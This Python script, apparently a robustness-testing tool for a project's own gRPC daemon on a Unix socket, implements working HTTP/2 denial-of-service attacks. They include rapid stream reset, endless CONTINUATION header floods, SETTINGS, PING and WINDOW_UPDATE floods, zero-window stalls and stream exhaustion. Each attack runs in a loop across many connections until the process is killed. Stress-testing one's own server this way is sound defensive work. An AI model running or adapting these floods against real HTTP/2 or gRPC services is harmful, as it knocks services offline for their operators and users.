"""Raw HTTP/2 clients of the API's socket that misuse what gRPC lets a client do.

usage: http2_attacker.py ATTACK SOCKET [CONNECTIONS]

Attacks until it is killed; a connection that is closed is made anew.
"""

import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, _, RST_STREAM, SETTINGS, _, PING, _, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 1, 4, 1
INITIAL_WINDOW_SIZE = 4  # a setting
OBSERVE = b"/gpuperf.v1.Observe/"
CALLS_PER_TURN = 500
FRAMES_PER_TURN = 2000
MAX_FRAME_BYTES = 16384


def make_frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def make_length(text):
    """An HPACK integer with a prefix of seven bits."""
    rest = len(text) - 127
    if rest < 0:
        return bytes([len(text)])
    out = bytearray([127])
    while rest >= 128:
        out.append(rest % 128 + 128)
        rest //= 128
    return bytes(out + bytes([rest]))


def make_field(name, value):
    """A header without indexing."""
    return b"\0" + make_length(name) + name + make_length(value) + value


def make_headers(method, service=OBSERVE):
    return (b"\x83\x86" + make_field(b":path", service + method) + make_field(b":authority", b"x") +
            make_field(b"content-type", b"application/grpc") + make_field(b"te", b"trailers"))


def make_message(payload=b""):
    return b"\0" + struct.pack(">I", len(payload)) + payload


def make_reset(stream):
    return make_frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


class Connection:
    def __init__(self, path, settings=b"", is_deaf=False):
        self.is_deaf = is_deaf  # takes no answers
        self.next_stream = 1
        self.socket = socket.socket(socket.AF_UNIX)
        self.socket.connect(path)
        self.send(PREFACE + make_frame(SETTINGS, 0, 0, settings) + make_frame(SETTINGS, ACK))

    def send(self, data):
        """At most for 0.1 s: others of this process's connections go on, too."""
        unsent = memoryview(data)
        deadline = time.monotonic() + 0.1
        while unsent and time.monotonic() < deadline:
            readable, writable, _ = select.select([] if self.is_deaf else [self.socket], [self.socket], [], 0.1)
            if readable and not self.socket.recv(1 << 16):
                raise ConnectionResetError("closed")
            if writable:
                unsent = unsent[self.socket.send(unsent[:1 << 17], socket.MSG_DONTWAIT):]
        self.unsent = bytes(unsent)

    def open_call(self, method, flags=END_HEADERS):
        stream = self.next_stream
        self.next_stream += 2
        return stream, make_frame(HEADERS, flags, stream, make_headers(method))

    def repeat(self, *parts):
        """`parts` makes the next bytes; a frame is never sent in part and left."""
        while True:
            data = self.unsent or b"".join(part() for part in parts)
            yield self.send(data)


def flood(connection, frames, count=FRAMES_PER_TURN):
    data = frames * count
    return connection.repeat(lambda: data)


def begin_headers(path):
    connection = Connection(path)
    connection.send(connection.open_call(b"GetStatus", flags=0)[1])
    return connection


def continuation(path):
    """Headers that never end."""
    return flood(begin_headers(path), make_frame(CONTINUATION, 0, 1, make_field(b"x-a", b"v" * 16000)), 8)


def small_continuation(path):
    return flood(begin_headers(path), make_frame(CONTINUATION, 0, 1, make_field(b"a", b"") * 4000), 8)


def empty_continuation(path):
    return flood(begin_headers(path), make_frame(CONTINUATION, 0, 1))


def reset(connection, method):
    def make_calls():
        calls = []
        for _ in range(CALLS_PER_TURN):
            stream, headers = connection.open_call(method)
            calls += [headers, make_frame(DATA, END_STREAM, stream, make_message()), make_reset(stream)]
        return b"".join(calls)
    return connection.repeat(make_calls)


def rapid_reset(path):
    """Calls that are given up as soon as they are made."""
    return reset(Connection(path), b"GetStatus")


def rapid_reset_of_streams(path):
    return reset(Connection(path), b"WatchSlowCalls")


def deaf_reset(path):
    return reset(Connection(path, is_deaf=True), b"GetStatus")


def many_calls(path):
    """Calls that never end, beyond what the daemon has told clients."""
    connection = Connection(path)
    return connection.repeat(lambda: b"".join(connection.open_call(b"GetStatus")[1] for _ in range(CALLS_PER_TURN)))


def call(connection, method, request=b"", at_once=64):
    """As many calls as are permitted, then nothing more of them."""
    for _ in range(at_once):
        stream, headers = connection.open_call(method)
        connection.send(headers)
        for begin in range(0, len(request) + 5, MAX_FRAME_BYTES):
            connection.send(make_frame(DATA, 0, stream, make_message(request)[begin:begin + MAX_FRAME_BYTES]))
        connection.send(make_frame(DATA, END_STREAM, stream))
        yield
    while True:
        yield connection.send(b"")


def untaken_answers(path):
    """Large answers that have no window to be sent in."""
    return call(Connection(path, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)), b"GetConfig")


def deaf_calls(path):
    return call(Connection(path, is_deaf=True), b"GetConfig")


def large_requests(path):
    """Requests that lack their end, as far as the windows reach."""
    return call(Connection(path), b"CheckConfig", b"x" * 65000)


def settings(path):
    return flood(Connection(path), make_frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 65535)))


def ping(path):
    return flood(Connection(path), make_frame(PING, 0, 0, b"12345678"))


def deaf_ping(path):
    return flood(Connection(path, is_deaf=True), make_frame(PING, 0, 0, b"12345678"))


def window_update(path):
    return flood(Connection(path), make_frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))


def empty_data(path):
    connection = Connection(path)
    connection.send(connection.open_call(b"GetStatus")[1])
    return flood(connection, make_frame(DATA, 0, 1))


def reconnect(path):
    """Makes connections, each for a few calls given up."""
    while True:
        yield next(rapid_reset(path))


def attack(function, path, connections):
    running = [None] * connections
    while True:
        for i in range(connections):
            try:
                running[i] = running[i] or function(path)
                next(running[i])
            except OSError:
                running[i] = None
                time.sleep(0.001)


if __name__ == "__main__":
    attack(globals()[sys.argv[1]], sys.argv[2], int((sys.argv + ["1"])[3]))
